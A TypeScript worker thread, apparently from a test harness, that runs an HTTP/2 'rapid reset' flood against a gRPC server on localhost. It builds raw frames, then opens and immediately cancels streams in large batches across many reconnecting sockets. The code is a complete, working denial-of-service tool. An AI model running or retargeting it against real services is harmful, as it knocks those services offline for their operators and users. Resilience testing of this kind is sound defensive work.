/** A thread that attacks a gRPC port. Its connections begin calls, reset them as fast as they can, and reconnect when they are closed. */
import { connect, type Socket } from "node:net";
import { parentPort, workerData } from "node:worker_threads";

const { port, path, connectionCount, more } = workerData as {
  readonly port: number;
  readonly path: string;
  readonly connectionCount: number;
  readonly more: Readonly<Record<string, string>>;
};

/** Returns an HTTP/2 frame. */
function frame(type: number, flags: number, streamId: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** Encodes header fields as HPACK literals, without index and compression. */
function headerBlock(fields: Readonly<Record<string, string>>): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat(
    Object.entries(fields).map(([name, value]) => Buffer.concat([Buffer.from([0]), text(name), text(value)])),
  );
}

const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]);

const fields = { ":method": "POST", ":scheme": "http", ":path": path, ":authority": "x" };
const block = headerBlock({ ...fields, "content-type": "application/grpc", te: "trailers", ...more });
const cancel = Buffer.from([0, 0, 0, 8]);
const callsAtOnce = 500;
const counts = { sentCount: 0, closedCount: 0 };

/** Frames of each batch of calls. Each batch is encoded once, so that the attacker needs little CPU time. */
const batches: Buffer[] = [];

function batch(index: number): Buffer {
  const frames = Array.from({ length: callsAtOnce }, (_, call) => {
    const streamId = 2 * (index * callsAtOnce + call) + 1;
    return [frame(1, 4, streamId, block), frame(3, 0, streamId, cancel)];
  });
  return (batches[index] ??= Buffer.concat(frames.flat()));
}

function attack(): void {
  const socket: Socket = connect({ host: "127.0.0.1", port, localAddress: "127.0.0.2" });
  let index = 0;
  const send = () => {
    if (socket.destroyed) return;
    counts.sentCount += callsAtOnce;
    socket.write(batch(index++), () => setImmediate(send));
  };
  socket.on("error", () => {});
  socket.on("data", () => {});
  socket.once("connect", () => socket.write(preface, send));
  socket.once("close", () => {
    counts.closedCount++;
    parentPort?.postMessage(counts, []);
    setImmediate(attack);
  });
}

for (let index = 0; index < connectionCount; index++) attack();
